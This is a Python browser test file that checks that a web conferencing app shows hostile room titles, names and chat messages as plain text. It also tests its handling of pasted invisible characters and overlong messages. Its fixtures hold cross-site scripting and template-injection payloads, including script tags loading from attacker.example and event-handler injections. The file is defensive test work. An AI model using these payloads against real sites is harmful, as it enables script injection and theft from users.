"""Hostile names and messages are shown as text, and never run or break a page."""

from collections.abc import AsyncIterator

from tests.browser.conftest import (
    Gallery,
    assert_clean,
    in_chromium,
    in_firefox,
    link,
    on_the_loop,
)
from tests.support.browsers import BrowserName
from tests.support.browsers.page import by_id
from tests.support.browsers.person import Person
from tests.support.server import Server
from tests.support.wire.room import TestRoom, opened
from tests.support.wire.scenes import publish_camera

TITLE = "</title><script>alert(1)</script>{ $name } ${7*7} {{7*7}}"
HOUSE = "\"><svg onload=alert(2)><iframe srcdoc='<script>alert(3)</script>'>"
NAME = "<img src=x onerror=alert(4)>' autofocus onfocus='alert(5)"
LINES = [
    '<a href="javascript:alert(6)" onmouseover=alert(7)>click</a>',
    "<script src=https://attacker.example/x.js></script>",
    "javascript:alert(8) https://attacker.example/?<b>bold</b>&lt;i&gt;&amp;",
    "<style>*{display:none}</style><meta http-equiv=refresh content=0;url=//x>",
    "<form action=//attacker.example><input autofocus onfocus=alert(9)>",
]


@on_the_loop
async def room(server: Server) -> AsyncIterator[TestRoom]:
    async with opened(server, TITLE, HOUSE) as room:
        yield room


async def assert_harmless(person: Person) -> None:
    """Check that no text was run as code, and that the page's policy blocked nothing."""
    assert await person.page.evaluate("() => window.misdeeds") == []
    assert_clean(person)


@in_firefox
async def test_hostile_texts_are_shown_as_text(
    room: TestRoom, gallery: Gallery, browser: BrowserName
) -> None:
    attacker = room.stranger()
    await attacker.connect(invitation=room.token("presenter"))
    await attacker.join(NAME, HOUSE)
    await publish_camera(attacker, "red")
    for number, line in enumerate(LINES):
        await attacker.ask("chat.send", text=line, nonce=f"n{number}")

    person = await gallery.visit(browser, "Rita")
    page = person.page
    await person.open_join_page(link(room, "presenter"))
    await page.read(by_id("room-title"), TITLE)
    await page.read("body", HOUSE)
    await person.join()
    await person.sees(NAME)
    await page.read(by_id("room-title"), TITLE)
    await page.read(by_id("plate-name"), NAME)
    await page.read(by_id("plate-organisation"), HOUSE)
    await person.reads(*LINES)
    await page.read(by_id("chat-message"), NAME)
    await person.says(LINES[0])
    await person.reads(*LINES, LINES[0])
    await gallery.picture(person, "chat")
    await person.open_panel("people")
    await page.read(by_id("person"), NAME)
    await person.acts_on(NAME, "action-pin")

    boss = room.stranger()
    token = (
        await room.owner.ask("invitation.create", room=room.id, role="moderator")
    ).url.split("#")[1]
    await boss.connect(invitation=token)
    await boss.join(NAME, HOUSE, subscribe=False)
    me = next(p for p in boss.participants.values() if p.name == "Rita")
    await boss.ask("participant.mute", participant=me.id, source="microphone")
    await page.read(by_id("notices"), NAME)
    await gallery.picture(person, "notice")
    await assert_harmless(person)
    await boss.ask("participant.remove", participant=me.id)
    await page.see(by_id("gone-page"))
    await page.read("body", NAME)
    await assert_harmless(person)


@in_chromium
async def test_hostile_texts_are_shown_as_text_to_a_moderator(
    room: TestRoom, gallery: Gallery, browser: BrowserName
) -> None:
    attacker = room.stranger()
    await attacker.connect(invitation=room.token("researcher"))
    await attacker.join(NAME, HOUSE, subscribe=False)
    await attacker.ask("hand.raise", raised=True)
    token = (
        await room.owner.ask("invitation.create", room=room.id, role="moderator")
    ).url.split("#")[1]
    moderator = await gallery.visit(browser, "Mina")
    page = moderator.page
    await moderator.enter(f"{room.server.url}/join#{token}", HOUSE)
    await moderator.open_panel("people")
    await page.read(by_id("hand-queue"), NAME)
    await moderator.acts_on(NAME, "action-remove")
    await page.read("dialog[open]", NAME)
    await gallery.picture(moderator, "confirm")
    await assert_harmless(moderator)


async def paste(person: Person, field: str, text: str) -> None:
    """Replace the content of a field, as pasting does."""
    await person.page.click(by_id(field))
    await person.page.evaluate(
        "(s, text) => { document.querySelector(s).select();"
        " document.execCommand('insertText', false, text); }",
        by_id(field),
        text,
    )


@in_firefox
async def test_pasted_text_is_sent_or_refused_with_a_reason(
    room: TestRoom, gallery: Gallery, browser: BrowserName
) -> None:
    person = await gallery.visit(browser, "Rita")
    page = person.page
    await person.open_join_page(link(room, "researcher"))
    await paste(person, "name", "\u3164")
    await page.write(by_id("organisation"), "Institute")
    await page.click(by_id("join"))
    await page.read(by_id("problem"), "Your name has no visible characters")
    await gallery.picture(person, "no-name")
    await paste(person, "name", "An\u200bn\tLee\u00ad")
    await page.click(by_id("join"))
    await page.see(by_id("room-page"))
    await page.read(by_id("plate-name"), "Ann Lee")
    await person.open_panel("chat")
    await paste(person, "chat-input", "Donau\u00addampf\u200bschiff\u2028on two lines")
    await page.press("Enter")
    lines = ["Donaudampfschiff\non two lines"]
    await person.reads(*lines)

    # A text that cannot be sent stays in the field, with the reason.
    smile = "\U0001f600"
    await paste(person, "chat-input", smile * 4001)
    await page.read(by_id("chat-too-long"), "4,001")
    await page.press("Enter")
    field = f"() => [...document.querySelector('{by_id('chat-input')}').value].length"
    assert await page.evaluate(field) == 4001
    await gallery.picture(person, "too-long")
    await paste(person, "chat-input", smile * 4000)
    await page.press("Enter")
    lines.append(smile * 4000)
    await person.reads(*lines)

    await paste(person, "chat-input", "\u2800\u3164")
    await page.press("Enter")
    await page.read(by_id("chat-pending"), "no visible characters")
    await gallery.picture(person, "nothing")
    await page.click(by_id("chat-edit"))
    await page.write(by_id("chat-input"), "something")
    await page.press("Enter")
    await person.reads(*lines, "something")
    assert_clean(person)
